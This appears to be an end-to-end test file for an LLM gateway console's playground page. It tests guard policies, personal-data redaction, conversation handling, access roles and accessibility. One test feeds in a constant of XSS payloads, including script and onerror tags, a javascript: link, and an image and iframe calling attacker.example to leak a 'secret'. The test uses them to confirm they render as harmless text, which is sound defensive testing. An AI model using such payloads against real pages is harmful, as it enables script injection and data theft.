import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { ListeningTestGateway } from '../../packages/gateway/src/testing/create-test-gateway.ts';
import type { Script } from '../../packages/gateway/src/testing/script.ts';
import { createScriptedModel, type ScriptedModel } from '../../packages/gateway/src/testing/scripted-model.ts';
import { findViolations } from './find-violations.ts';
import { browserProgram, openBrowser } from './open-browser.ts';
import { listenConsoleGateway, openConsole, type OpenConsoleOptions, type OpenedConsole } from './open-console.ts';

/** For what comes after a moment, also where many tests run at once. */
const patience = { timeout: 10_000 };
/** Browsers complain of every answer that is a refusal. */
const refusals = /status of (?:400|403)/;

/** What would do harm in a page that took texts for more than texts. */
const payload = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<svg onload=alert(3)><a xlink:href="javascript:alert(4)">x</a></svg>',
  '[link](javascript:alert(5)) ![picture](https://attacker.example/leak.png?q=secret)',
  '<iframe src="https://attacker.example"></iframe><style>*{display:none}</style>',
  '\u202egnp.exe\u202c \u200bhidden\u200b \u001b[31mred\u0007',
].join('\n');

describe.skipIf(browserProgram === undefined)('the playground in the console, before a real gateway', () => {
  let browser: Browser;
  let gateway: ListeningTestGateway;
  let model: ScriptedModel;
  let script: Script;
  let opened: OpenedConsole;
  let page: Page;

  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(() => browser.close());
  beforeEach(async () => {
    script = { pieces: ['Dear ', '[PERSON_1], the ', 'Adler ', 'of Nordlicht ', 'says hello.'] };
    model = createScriptedModel({ script: () => script });
    gateway = await listenConsoleGateway({
      providers: { scripted: model },
      configuration: {
        inspection: {
          guards: [
            { use: 'ban-substrings', id: 'no-falcon', substrings: ['Falke'] },
            { use: 'ban-substrings', id: 'no-project', substrings: ['Nordlicht'], action: 'redact' },
            { use: 'ban-substrings', id: 'watched', substrings: ['Adler'], action: 'flag' },
          ],
          policies: { open: { guards: [] } },
        },
      },
    });
  });
  afterEach(async () => {
    await opened.close(refusals);
    await gateway.close();
  });

  async function open(options: OpenConsoleOptions = {}): Promise<void> {
    opened = await openConsole(browser, { page: '/playground', gateway, ...options });
    ({ page } = opened);
    await field().waitFor();
  }

  const field = () => page.locator('[name="playground-text"]');
  const beside = () => page.getByRole('region', { name: /^(?:What happened|Was geschah)$/ });
  const stage = (name: string) =>
    beside()
      .locator('li[data-progress]')
      .filter({ has: page.locator('strong', { hasText: new RegExp(`^${name}$`) }) });

  const alert = () => page.getByRole('alert').innerText();

  async function send(text: string): Promise<void> {
    await field().fill(text);
    await field().press('Enter');
  }

  async function ended(state: string, count = 1): Promise<void> {
    await expect.poll(() => page.locator(`[data-state="${state}"]`).count(), patience).toBe(count);
  }

  test('asks a model, streams its answer, and shows what each stage did to both', async () => {
    await open();
    await expect.poll(() => beside().innerText()).toContain('Personal data');
    await send('Write to Mrs Emily Carter about the Adler');
    await ended('answered');

    await expect
      .poll(() => page.locator('[data-part="answer"]').innerText())
      .toBe('Dear Emily Carter [PERSON_1], the Adler of [redacted] says hello.');
    await expect
      .poll(() => page.locator('.playground-question mark').allInnerTexts())
      .toEqual(['Emily Carter [PERSON_1]', 'Adler']);
    await expect
      .poll(() => page.locator('.playground-answer mark').allInnerTexts())
      .toEqual(['Emily Carter [PERSON_1]', 'Adler', '[redacted]']);
    await expect.poll(() => stage('Guards on the question').innerText()).toMatch(/Policy “default”\s+marked watched/);
    await expect
      .poll(() => stage('Personal data').innerText())
      .toMatch(/1 value was replaced\.\s+Name of a person \[PERSON_1\]/);
    await stage('Personal data').locator('summary').click();
    await expect
      .poll(() => stage('Personal data').locator('[data-part="read"]').innerText())
      .toBe('Write to Mrs [PERSON_1] about the Adler');
    await expect.poll(() => stage('Model').innerText()).toContain('scripted → scripted');
    await expect.poll(() => stage('Guards on the answer').innerText()).toContain('redacted no-project');
    await stage('Guards on the answer').getByRole('button', { name: 'Findings, one by one' }).click();
    await page.getByRole('dialog').locator('tbody tr').first().waitFor();
    await expect
      .poll(() => page.getByRole('dialog').locator('tbody tr').allInnerTexts())
      .toEqual([
        expect.stringMatching(/^watched\/1\tmarked\s*\t\tAdler/),
        expect.stringMatching(/^no-project\/1\tredacted\s*\t\t\[redacted\]/),
      ]);
    await page.keyboard.press('Escape');

    const result = (await gateway.leaves()).at(-1);
    expect(result).toMatchObject({ kind: 'result', dialect: 'playground', outcome: 'answered' });
    await expect.poll(() => stage('Record').innerText()).toContain(`Entry ${String(result?.index)}`);
    const request = await beside().locator('.playground-request code').innerText();
    expect(result).toHaveProperty('request', request);
    await stage('Record').getByRole('link', { name: 'Open in the log' }).click();
    await page.waitForURL(`**/console/log/${request}`);
  });

  test('explains in the chosen language why a question is blocked, and shows where', async () => {
    await open({ locale: 'de-DE' });
    await send('Was macht der Falke?');
    await ended('refused');
    await expect
      .poll(alert, patience)
      .toMatch(
        /^Es gibt keine Antwort: Die Anfrage wurde .* blockiert\.\s+Der Text enthält Wörter aus der Liste des Betreibers\./,
      );
    await expect.poll(() => page.locator('.playground-question mark').allInnerTexts()).toEqual(['Falke']);
    await expect.poll(() => stage('Wächter auf dem Hinweg').getAttribute('data-progress')).toBe('ended');
    await expect.poll(() => stage('Modell').innerText()).toContain('nicht erreicht');
    expect(model.calls).toEqual([]);

    // What was blocked does not block what is asked next.
    await send('Und sonst?');
    await ended('answered');
    expect(JSON.stringify(model.calls.at(-1)?.body['messages'])).not.toContain('Falke');
  });

  test('keeps what was given out of an answer that is blocked on its way, and nothing else', async () => {
    script = { pieces: ['First things first. ', 'Then the ', 'Falke ', 'and its secret'] };
    await open();
    await send('Tell me');
    await ended('refused');
    await expect.poll(() => page.locator('[data-part="answer"]').innerText()).toBe('First things first. Then the ');
    await expect.poll(alert, patience).toContain('The answer was cut off:');
    expect(await page.locator('body').innerText()).not.toContain('secret');
    await expect.poll(() => stage('Guards on the answer').innerText()).toContain('blocked no-falcon');
  });

  test('remembers the conversation, asks again, changes the last message, and begins anew', async () => {
    script = { text: 'One.' };
    await open();
    await page.getByText('System prompt and temperature').click();
    await page.locator('[name="playground-system"]').fill('Be brief');
    await page.locator('[name="playground-temperature"]').fill('0.5');
    await send('First');
    await ended('answered');
    script = { text: 'Two.' };
    await send('Second');
    await ended('answered', 2);
    const sent = () => model.calls.at(-1)?.body;
    const history = [
      { role: 'system', content: 'Be brief' },
      { role: 'user', content: 'First' },
      { role: 'assistant', content: 'One.' },
    ];
    expect(sent()).toMatchObject({ temperature: 0.5, messages: [...history, { role: 'user', content: 'Second' }] });

    script = { text: 'Three.' };
    await page.getByRole('button', { name: 'Ask again' }).click();
    await page.getByText('Three.').waitFor();
    await expect.poll(() => page.locator('.playground-turn').count()).toBe(2);
    expect(sent()).toMatchObject({ messages: [...history, { role: 'user', content: 'Second' }] });

    script = { text: 'Four.' };
    await page.getByRole('button', { name: 'Change' }).click();
    await expect.poll(() => field().inputValue()).toBe('Second');
    await send('Other');
    await page.getByText('Four.').waitFor();
    await expect
      .poll(() => page.locator('.playground-question').allInnerTexts())
      .toEqual(['First', expect.stringMatching(/^Other/)]);
    expect(sent()).toMatchObject({ messages: [...history, { role: 'user', content: 'Other' }] });

    await page.getByRole('button', { name: 'New conversation' }).click();
    expect(await page.locator('.playground-turn').count()).toBe(0);
    expect(
      await page.evaluate(() => [...Object.values(localStorage), ...Object.values(sessionStorage)].join(' ')),
    ).not.toContain('First');
  });

  test('stops an answer, and the record says so', async () => {
    script = { pieces: ['on ', 'and ', 'on '], fault: { kind: 'stall', after: 2 } };
    await open();
    await send('Go on');
    await page.getByText('on and').waitFor();
    await stage('Model').getByText('under way').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('You stopped the answer.').waitFor();
    await expect
      .poll(async () => (await gateway.leaves()).at(-1), patience)
      .toMatchObject({ kind: 'result', outcome: 'cancelled' });
  });

  test('compares two policies over one question, and keeps the choice in the address', async () => {
    await open();
    await page.getByRole('tab', { name: 'Compare' }).click();
    await page.locator('[name="right-policy"]').selectOption('open');
    await send('What does the Falke do?');
    await ended('refused');
    await ended('answered');
    const row = (name: string) => page.locator('.playground-differences tr', { hasText: name });
    await expect.poll(() => row('Outcome').innerText()).toMatch(/blocked\tanswered/);
    await expect.poll(() => row('Guards').innerText()).toMatch(/default\topen/);
    await expect.poll(() => row('Findings').innerText()).toMatch(/1\t0\t−1/);
    await expect.poll(() => page.locator('[data-lane="left"] mark').allInnerTexts()).toEqual(['Falke']);
    expect((await gateway.leaves()).at(-1)).toMatchObject({ kind: 'result', guardPolicy: 'open' });
    expect(new URL(page.url()).search).toContain('policy2=open');

    await page.reload();
    await field().waitFor();
    await expect.poll(() => page.getByRole('tab', { selected: true }).innerText()).toBe('Compare');
    await expect.poll(() => page.locator('[name="right-policy"]').inputValue()).toBe('open');
  });

  test('sends a document as a text of others', async () => {
    await open();
    await page.getByRole('button', { name: 'Attach a text' }).click();
    await page
      .locator('[name="playground-file"]')
      .setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('The Adler has landed.') });
    await expect.poll(() => page.locator('[name="playground-document"]').inputValue()).toBe('The Adler has landed.');
    await send('Summarise');
    await ended('answered');
    expect(model.calls.at(-1)?.body['documents']).toEqual([{ title: 'notes.txt', text: 'The Adler has landed.' }]);
    await expect.poll(() => page.locator('.playground-question details mark').allInnerTexts()).toEqual(['Adler']);
  });

  test('tries a text before guards and the policy on personal data at once', async () => {
    opened = await openConsole(browser, { page: '/playground?tab=text', gateway });
    ({ page } = opened);
    await page.locator('[name="trial-text"]').fill('Mail anna.schmidt@example.org about the Nordlicht');
    await page.getByRole('button', { name: 'Try it' }).click();
    await page.locator('[data-part="read"]').waitFor();
    await expect.poll(() => page.locator('[data-verdict]').getAttribute('data-verdict')).toBe('redact');
    await expect.poll(() => page.locator('[data-part="left"]').innerText()).toContain('[redacted]');
    await expect.poll(() => page.locator('[data-part="read"]').innerText()).toContain('[EMAIL_1]');
    expect(model.calls).toEqual([]);
  });

  test('shows whatever a model or a person writes as text', async () => {
    script = { pieces: [payload.slice(0, 40), payload.slice(40, 90), payload.slice(90)] };
    await open();
    await page.getByText('System prompt and temperature').click();
    await page.locator('[name="playground-system"]').fill(payload);
    await field().fill(payload);
    await page.getByRole('button', { name: 'Send' }).click();
    await ended('answered');
    for (const part of ['.playground-question pre', '[data-part="answer"] pre']) {
      const shown = page.locator(part);
      expect(await shown.locator('*:not(.foreign-mark):not(mark):not(small)').count()).toBe(0);
      await expect.poll(() => shown.innerText()).toContain('<script>alert(1)</script>');
      // What would turn the line around, or cannot be seen, has a name.
      await expect.poll(() => shown.locator('.foreign-mark').count()).toBeGreaterThan(4);
    }
    await page.getByRole('tab', { name: 'Compare' }).click();
    await field().fill(payload);
    await page.getByRole('button', { name: 'Send' }).click();
    await ended('answered', 2);
    await page.getByRole('tab', { name: 'Try a text' }).click();
    await page.locator('[name="trial-text"]').fill(payload);
    await page.getByRole('button', { name: 'Try it' }).click();
    await page.locator('[data-verdict]').waitFor();
    expect(opened.complaints.filter((one) => !refusals.test(one))).toEqual([]);
  });

  test('gives callers the same page with their own key, and what callers may see', async () => {
    await open({ role: 'user' });
    expect(await page.locator('[name="chat-policy"]').count()).toBe(0);
    await expect.poll(() => page.getByRole('tab').allInnerTexts()).toEqual(['Chat', 'Compare', 'By interface']);
    await send('Write to Mrs Emily Carter');
    await ended('answered');
    await expect
      .poll(() => page.locator('[data-part="answer"]').innerText())
      .toBe('Dear Emily Carter, the Adler of [redacted] says hello.');
    expect(await page.locator('mark').count()).toBe(0);
    const result = (await gateway.leaves()).at(-1);
    expect(result).toMatchObject({ kind: 'result', dialect: 'openai-chat' });
    const request = await beside().locator('.playground-request code').innerText();
    expect(result).toHaveProperty('request', request);
    const saving = page.waitForEvent('download');
    await beside().getByRole('button', { name: 'Save the receipt' }).click();
    expect((await saving).suggestedFilename()).toBe(`${request}.tlog-proof`);
    expect(await beside().getByRole('link').count()).toBe(0);

    await send('What does the Falke do?');
    await ended('refused');
    await expect.poll(alert, patience).toMatch(/^There is no answer: The request was blocked/);
    // An address with a policy changes nothing for a caller, and the server refuses the other way in.
    await opened.goTo('/playground?policy=open');
    await send('And the Falke again?');
    await ended('refused');
    const response = await fetch(`${gateway.url}/admin/v1/playground`, {
      method: 'POST',
      headers: { authorization: `Bearer ${opened.key}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'scripted', messages: [{ role: 'user', content: 'x' }], policy: 'open' }),
    });
    expect(response.status).toBe(403);
  });

  test('is not there for auditors', async () => {
    opened = await openConsole(browser, { page: '/', gateway, role: 'auditor' });
    ({ page } = opened);
    await page.getByRole('link', { name: 'Log', exact: true }).first().waitFor();
    expect(await page.getByRole('link', { name: 'Playground' }).count()).toBe(0);
    await opened.goTo('/playground');
    await page.getByText('This key may not see this page').waitFor();
    expect(await field().count()).toBe(0);
  });

  test.each([
    ['en-GB', 1_280, 'light', 'admin'],
    ['de-DE', 390, 'dark', 'admin'],
    ['de-DE', 390, 'light', 'user'],
  ] as const)(
    'can be used by everybody (%s, %i pixels wide, %s, %s)',
    async (locale, width, colorScheme, role) => {
      await open({ locale, width, colorScheme, role });
      const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth);
      expect(await findViolations(page)).toEqual([]);
      await page.locator('[data-example="personal"]').click();
      await field().press('Enter');
      await ended('answered');
      await page.evaluate(() => document.querySelectorAll('details').forEach((details) => (details.open = true)));
      expect(await findViolations(page)).toEqual([]);
      expect(await fits()).toBe(true);
      await send('Der Falke');
      await ended('refused');
      expect(await findViolations(page)).toEqual([]);
      await page.getByRole('tab').nth(1).click();
      await page.locator('[data-example="harmless"]').click();
      await field().press('Enter');
      await page.locator('.playground-differences').waitFor();
      await ended('answered', 2);
      expect(await findViolations(page)).toEqual([]);
      expect(await fits()).toBe(true);
      // axe looks four times at a long page.
    },
    60_000,
  );
});
